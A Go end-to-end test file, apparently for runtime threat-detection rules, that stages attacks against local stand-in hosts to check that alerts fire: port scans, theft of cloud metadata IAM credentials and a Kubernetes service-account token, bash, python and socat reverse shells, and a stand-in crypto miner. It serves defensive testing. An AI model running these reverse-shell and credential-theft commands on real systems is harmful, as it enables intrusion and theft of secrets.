package rules_test

import (
	"fmt"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
)

// containerOutput runs a shell script in the shared container and
// returns what it printed.
func containerOutput(t *testing.T, script string) (*workload, string) {
	t.Helper()
	w := sharedContainer(t)
	out, err := exec.Command(docker, "exec", w.id, "sh", "-c", script).CombinedOutput()
	if _, exited := err.(*exec.ExitError); err != nil && !exited {
		t.Fatalf("docker exec: %v", err)
	}
	t.Logf("in the container: %s: %s", script, out)
	return w, string(out)
}

var discoveryAttacks = []attack{
	{"Network scanning tool run", "Warning", "", "nmap -sT (Debian) scanning a listener in the suite's network namespace",
		func(t *testing.T, ag *agent, m string) result {
			nmap, exe := hostTool(t, "nmap")
			port := listenRemote(t, "tcp4", 0)
			report := filepath.Join(t.TempDir(), m+".gnmap")
			pid := run(t, exec.Command(nmap, "-sT", "-Pn", "-n", "--reason", "-p", strconv.Itoa(port), "-oG", report, remoteHost(t)))
			if out, _ := os.ReadFile(report); !strings.Contains(string(out), fmt.Sprintf("%d/open/tcp", port)) {
				t.Errorf("nmap did not find the open port:\n%s", out)
			}
			return result{match: m, pid: pid, name: "nmap", exe: exe}
		}},
	{"Network scanning tool run", "Warning", "netcat -z", "nc -z (netcat-openbsd) probing a port in the suite's network namespace",
		func(t *testing.T, ag *agent, m string) result {
			nc, exe := hostTool(t, "nc")
			port := listenRemote(t, "tcp4", 0)
			target := fmt.Sprintf("%s %d", remoteHost(t), port)
			pid := run(t, exec.Command(nc, "-z", "-v", "-w", "2", remoteHost(t), strconv.Itoa(port)))
			return result{match: target, pid: pid, name: "nc", exe: exe}
		}},
	{"Cluster or cloud CLI run in a container", "Warning", "",
		"stand-in kubectl (test/e2e/rules/standin/kubectl; Debian has no kubectl): reads the service-account token, lists secrets over TLS",
		func(t *testing.T, ag *agent, m string) result {
			dir := "/tmp/" + m
			w := inContainer(t, false, "mkdir -p "+dir+" && cp /drop/kubectl "+dir+"/kubectl && "+dir+"/kubectl get secrets -n shop -l app="+m)
			if req := apiRequests.find("labelSelector=app%3D" + m); !strings.HasSuffix(req, "authorized=true") {
				t.Errorf("the API server saw %q", req)
			}
			return result{match: m, name: "kubectl", exe: dir + "/kubectl", in: w}
		}},
	{"Cloud metadata service contacted from a container", "Warning", "", "busybox wget of the instance's IAM credentials, in the container",
		func(t *testing.T, ag *agent, m string) result {
			path := "/latest/meta-data/iam/security-credentials/" + m
			w := inContainer(t, false, "/usr/bin/wget -qO- http://169.254.169.254"+path)
			if metadataRequests.find(path) == "" {
				t.Error("the metadata service was not asked")
			}
			return result{match: m, name: "wget", exe: busybox, in: w, check: connectedTo("169.254.169.254:80")}
		}},
	{"Kubernetes API server contacted from a container", "Warning", "", "busybox wget over TLS with the stolen token, in the container",
		func(t *testing.T, ag *agent, m string) result {
			url := "https://10.96.0.1/api/v1/namespaces/shop/secrets?labelSelector=" + url.QueryEscape("app="+m)
			w := inContainer(t, false, `/usr/bin/wget --no-check-certificate -qO- --header "Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)" '`+url+`'`)
			if req := apiRequests.find("labelSelector=app%3D" + m); !strings.HasSuffix(req, "authorized=true") {
				t.Errorf("the API server saw %q", req)
			}
			return result{match: m, name: "wget", exe: busybox, in: w, check: connectedTo("10.96.0.1:443")}
		}},
	{"SSH connection to a non-standard port", "Notice", "", "OpenSSH ssh -p to a port in the suite's network namespace",
		func(t *testing.T, ag *agent, m string) result {
			ssh, exe := hostTool(t, "ssh")
			port := listenRemote(t, "tcp4", 0)
			pid := run(t, exec.Command(ssh, "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o", "ConnectTimeout=5",
				"-p", strconv.Itoa(port), m+"@"+remoteHost(t), "true"))
			return result{match: m, pid: pid, name: "ssh", exe: exe, fields: map[string]string{"fd.sport": strconv.Itoa(port)}}
		}},
}

var controlAttacks = []attack{
	{"Outbound connection from a shell", "Warning", "", "bash /dev/tcp redirection",
		func(t *testing.T, ag *agent, m string) result {
			_, exe := hostTool(t, "bash")
			port := listenRemote(t, "tcp4", 0)
			pid := run(t, exec.Command("bash", "-c", fmt.Sprintf("exec 3<>/dev/tcp/%s/%d; echo %s >&3", remoteHost(t), port, m)))
			return result{match: m, pid: pid, name: "bash", exe: exe, check: connectedTo(fmt.Sprintf("%s:%d", remoteHost(t), port))}
		}},
	{"Reverse shell", "Critical", "", "bash -c 'exec bash -i >& /dev/tcp/HOST/PORT 0>&1' to a C2 in the suite's network namespace",
		func(t *testing.T, ag *agent, m string) result {
			bash, exe := hostTool(t, "bash")
			srv := newC2()
			port := serveRemote(t, 0, srv.handle(m))
			pid := run(t, exec.Command(bash, "-c", fmt.Sprintf("exec %s -i >& /dev/tcp/%s/%d 0>&1", bash, remoteHost(t), port)))
			if !srv.answered(m + "-42") {
				t.Errorf("the C2 got no answer from the shell")
			}
			return reverseShell(remoteHost(t), port, pid, "bash", exe)
		}},
	{"Reverse shell", "Critical", "python", "python3 one-line reverse shell (socket, dup2 onto 0, 1 and 2, exec sh -i) to a C2 in the suite's network namespace",
		func(t *testing.T, ag *agent, m string) result {
			python, _ := hostTool(t, "python3")
			srv := newC2()
			port := serveRemote(t, 0, srv.handle(m))
			oneLiner := fmt.Sprintf(`import socket,os;s=socket.socket();s.connect(("%s",%d));[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execv("/bin/sh",["sh","-i"])`,
				remoteHost(t), port)
			pid := run(t, exec.Command(python, "-c", oneLiner))
			if !srv.answered(m + "-42") {
				t.Errorf("the C2 got no answer from the shell")
			}
			return reverseShell(remoteHost(t), port, pid, "sh", realpath(t, "/bin/sh"))
		}},
	{"Netcat or socat executing a command", "Warning", "", "socat TCP4:HOST:PORT EXEC:/bin/sh, a reverse shell to a C2 in the suite's network namespace",
		func(t *testing.T, ag *agent, m string) result {
			socat, exe := hostTool(t, "socat")
			srv := newC2()
			port := serveRemote(t, 0, srv.handle(m))
			target := fmt.Sprintf("TCP4:%s:%d", remoteHost(t), port)
			pid := run(t, exec.Command(socat, "-T", "5", target, "EXEC:/bin/sh"))
			if !srv.answered(m + "-42") {
				t.Errorf("the C2 got no answer from the shell")
			}
			return result{match: target, pid: pid, name: "socat", exe: exe}
		}},
	{"Remote copy or download tool run in a container", "Notice", "", "busybox wget downloading a file, in the container",
		func(t *testing.T, ag *agent, m string) result {
			w := inContainer(t, false, "/usr/bin/wget -q -T 2 http://127.0.0.1:1/"+m+"; true")
			return result{match: m, name: "wget", exe: busybox, in: w}
		}},
	{"Cryptocurrency miner started", "Critical", "",
		"stand-in xmrig (test/e2e/rules/standin/xmrig; no miner is packaged): stratum login to a pool in the suite's network namespace",
		func(t *testing.T, ag *agent, m string) result { return mine(t, m) }},
	{"Packet socket opened in a container", "Warning", "", "busybox arping, in the container",
		func(t *testing.T, ag *agent, m string) result {
			// arping's command line has no room for a marker; it is the only
			// arping of the suite.
			w := inContainer(t, false, "/usr/bin/arping -c 1 -w 1 -I lo 127.0.0.1; true")
			return result{match: "process=arping ", name: "arping", exe: busybox, in: w,
				fields: map[string]string{"evt.arg.domain": "AF_PACKET"}}
		}},
}

// connectedTo checks that the alert's connection (fd.name,
// client->server) goes to addr.
func connectedTo(addr string) func(t *testing.T, got *wireAlert) {
	return func(t *testing.T, got *wireAlert) {
		if name := got.field("fd.name"); !strings.HasSuffix(name, "->"+addr) {
			t.Errorf("connection %s, want one to %s", name, addr)
		}
	}
}

// mine runs the stand-in miner against a stratum pool listening on 3333
// in the suite's network namespace and checks that the pool saw it log
// in with the marker as wallet.
func mine(t *testing.T, m string) result {
	var pool stratumPool
	serveRemote(t, 3333, pool.handle)
	pid := run(t, exec.Command(built.xmrig, "-o", "stratum+tcp://"+remoteHost(t)+":3333", "-u", m, "-p", "x", "--donate-level", "1"))
	if pool.logins.find("login="+m) == "" {
		t.Error("the pool saw no login")
	}
	return result{match: m, pid: pid, name: "xmrig", exe: built.xmrig}
}

// reverseShell is the alert of a shell started on a socket to host:port:
// the C2's address and port are what the alert must name. The shells it
// starts in turn (bash -i runs ~/.bashrc, which may run scripts) are on
// the socket too and raise the rule again: the pid picks the first.
func reverseShell(host string, port, pid int, name, exe string) result {
	return result{match: fmt.Sprintf("remote=%s port=%d ", host, port), narrow: fmt.Sprintf(" pid=%d ", pid), pid: pid, name: name, exe: exe,
		fields: map[string]string{"proc.stdin.rip": host, "proc.stdin.rport": strconv.Itoa(port)}}
}
